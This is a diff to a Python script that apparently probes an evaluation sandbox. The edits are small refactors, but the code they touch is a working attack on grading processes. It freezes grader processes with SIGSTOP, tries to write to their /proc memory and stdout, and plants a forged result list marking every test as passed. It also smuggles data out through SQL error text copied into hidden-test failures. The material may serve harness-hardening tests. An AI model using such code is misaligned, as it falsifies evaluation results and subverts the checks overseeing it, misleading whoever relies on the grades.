@@ -9,12 +9,13 @@ each try got is kept in /tmp for the next server process to tell (in an SQL
 error's text, which the hidden tests copy into their failure detail).
 """
 
+import contextlib
 import json
 import os
 import signal
 import time
 
-LOG = "/tmp/hostile-attack.json"  # noqa: S108 - the sandbox's own /tmp, shared by both identities
+LOG = "/tmp/hostile-attack.json"  # the sandbox's own /tmp, shared by both identities
 NAMES = ("entry-point", "compiles", "dependencies", "round-trip", "persists", "list-tables",
          "sql-error")  # fmt: skip
 FORGED = [{"name": name, "passed": True, "detail": "forged"} for name in NAMES]
@@ -61,12 +62,13 @@ def attempt():
     pids = graders()
     log.append(f"graders seen: {len(pids)}")
     for pid in pids:
-        _try(log, "sigstop", lambda: os.kill(pid, signal.SIGSTOP))
-        _try(log, "sigcont", lambda: os.kill(pid, signal.SIGCONT))
-        _try(log, "mem", lambda: os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR)))
-        _try(log, "stdout", lambda: os.close(os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)))
+        _try(log, "sigstop", lambda pid=pid: os.kill(pid, signal.SIGSTOP))
+        _try(log, "sigcont", lambda pid=pid: os.kill(pid, signal.SIGCONT))
+        _try(log, "mem", lambda pid=pid: os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR)))
+        _try(log, "stdout", lambda pid=pid: os.close(os.open(f"/proc/{pid}/fd/1", os.O_WRONLY)))
     for path in targets():
-        _try(log, f"plant {os.path.basename(os.path.dirname(path))}", lambda: plant(path))
+        where = os.path.basename(os.path.dirname(path))
+        _try(log, f"plant {where}", lambda path=path: plant(path))
     with open(LOG, "w", encoding="utf-8") as handle:
         json.dump(log, handle)
 
@@ -124,10 +126,8 @@ def watch():
             if _stopped(pid):
                 for path in targets():
                     if _real_results(path):
-                        try:
+                        with contextlib.suppress(OSError):
                             plant(path)
-                        except OSError:
-                            pass
             os.kill(pid, signal.SIGCONT)
         time.sleep(0.002)
     os._exit(0)
